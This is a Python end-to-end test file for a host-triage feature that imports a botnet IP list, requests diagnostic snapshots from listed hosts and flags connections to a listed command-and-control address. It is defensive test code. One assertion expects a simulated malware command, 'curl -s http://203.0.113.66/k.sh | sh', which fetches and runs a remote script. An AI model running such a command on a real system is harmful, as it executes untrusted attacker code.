"""The triage snapshot end to end over real HTTP: `patchgap serve` in its own
process, collectors through the osquery stand-in (with the triage tables'
real schemas and a machine with malware on it) and natively on this machine.
A host a botnet list names is asked at its next report, runs the checks once
and uploads them; `botnet triage` prints them with the listed remote address
flagged; a host nobody asked is refused; an admin can ask any host."""
from __future__ import annotations

import json
from pathlib import Path

import httpx

from collector import wire
from tests.e2e.test_whole_path import Serve, collect, patchgap, secret_for
from tests.e2e.test_whole_path import serve  # noqa: F401 - the fixture

WINDOWS, DEBIAN = "PC-ACC-017", "build-07.example.lan"


def test_a_listed_host_is_triaged_and_nobody_else(serve: Serve, tmp_path: Path,  # noqa: F811
                                                 osquery_standin) -> None:  # type: ignore[no-untyped-def]
    db = serve.db_url
    secret = secret_for(db, "Văn phòng")
    windows, debian = osquery_standin("windows", triage=True), osquery_standin("debian", triage=True)

    def windows_once(*extra: str):  # type: ignore[no-untyped-def]
        return collect(serve.url, tmp_path / "win", "--source", "osquery", "--osquery-socket", windows, *extra,
                       secret=secret)

    def debian_once():  # type: ignore[no-untyped-def]
        return collect(serve.url, tmp_path / "deb", "--source", "osquery", "--osquery-socket", debian, secret=secret)

    for first in (windows_once(), debian_once()):
        assert first.returncode == 0, first.stderr
        assert "triage" not in first.stdout + first.stderr  # nobody is listed yet: nothing runs

    # The national list names the PC's address and the server it talks to.
    listed = tmp_path / "DS IP botnet.csv"
    listed.write_text("STT,Địa chỉ IP,Tên mạng botnet\n1,10.20.30.41,Emotet\n2,203.0.113.66,Emotet C2\n",
                      encoding="utf-8")
    imported = patchgap(db, "botnet", "import", str(listed))
    assert imported.returncode == 0, imported.stderr
    assert "triage snapshot asked of 1 listed host(s), at their next report" in imported.stdout

    second = windows_once()
    assert second.returncode == 0, second.stderr
    assert "triage snapshot sent: 7 checks (0 cut short), 0 skipped" in second.stdout

    shown = patchgap(db, "botnet", "triage", WINDOWS)
    assert shown.returncode == 0, shown.stderr
    table = shown.stdout.split("[remote_connections]: 2 row(s)\n")[1].split("\n\n")[0].splitlines()
    assert table[2].split("  ")[0] == "2288" and "⚑" not in table[2]
    assert "updater.exe /silent" in table[3] and "⚑ 203.0.113.66" in table[3]
    assert shown.stdout.rstrip().endswith("⚑ on an imported botnet list:\n"
                                          "  ⚑ 203.0.113.66: list DS IP botnet, row 3 (Emotet C2)")
    data = json.loads(patchgap(db, "botnet", "triage", WINDOWS, "--format", "json").stdout)
    assert [r["name"] for r in data["results"]] == [
        "listening_ports", "recent_executables_windows", "remote_connections", "scheduled_tasks", "services",
        "startup_items", "unsigned_binaries"]
    assert data["source"] == "osquery" and data["pending_request"] is None

    # Answered once: the next report is not asked again; the other host never was.
    for again in (windows_once(), debian_once()):
        assert again.returncode == 0 and "triage" not in again.stdout + again.stderr
    key = (tmp_path / "deb" / "node_key").read_text().strip()
    upload = wire.TriageUpload(host_uuid="8f3c1e2a-5b7d-4c9e-a1f0-2d6b8e4c7a93",
                               collected_at="2026-12-01T00:00:00+00:00", source="osquery")
    refused = httpx.post(serve.url + "/api/v1/triage", content=wire.dumps(upload),
                         headers={"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
    assert refused.status_code == 409, refused.text
    assert patchgap(db, "botnet", "triage", DEBIAN).stdout.startswith(
        f"no triage snapshot received from {DEBIAN} yet\nnone asked either")

    # An admin asks for the unlisted one: its next report brings it.
    assert patchgap(db, "host", "triage", DEBIAN).returncode == 0
    asked = debian_once()
    assert "triage snapshot sent: 6 checks (0 cut short), 0 skipped" in asked.stdout, asked.stderr
    linux = patchgap(db, "botnet", "triage", DEBIAN).stdout
    assert "curl -s http://203.0.113.66/k.sh | sh" in linux and "⚑ ::ffff:203.0.113.66" in linux


def test_this_machine_without_osquery_sends_what_proc_shows(serve: Serve, tmp_path: Path) -> None:  # noqa: F811
    db = serve.db_url
    secret = secret_for(db, "Văn phòng")
    state = tmp_path / "native"
    assert collect(serve.url, state, "--source", "native", secret=secret).returncode == 0
    [me] = [h["host"] for h in json.loads(patchgap(db, "hosts", "--format", "json").stdout)]
    assert patchgap(db, "host", "triage", me).returncode == 0
    sent = collect(serve.url, state, "--source", "native")
    assert sent.returncode == 0, sent.stderr
    assert "triage snapshot sent: 3 checks" in sent.stdout
    data = json.loads(patchgap(db, "botnet", "triage", me, "--format", "json").stdout)
    results = {r["name"]: r for r in data["results"]}
    assert set(results) == {"listening_ports", "remote_connections", "processes"}
    # `patchgap serve` listens on its port on this very machine
    port = serve.url.rsplit(":", 1)[1]
    assert [row for row in results["listening_ports"]["rows"] if row[3:5] == ["127.0.0.1", port]]
    assert [line.split(":")[0] for line in data["skipped"]][:4] == [
        "startup_items", "crontab", "systemd_units", "recent_executables"]
    assert data["source"] == "native"
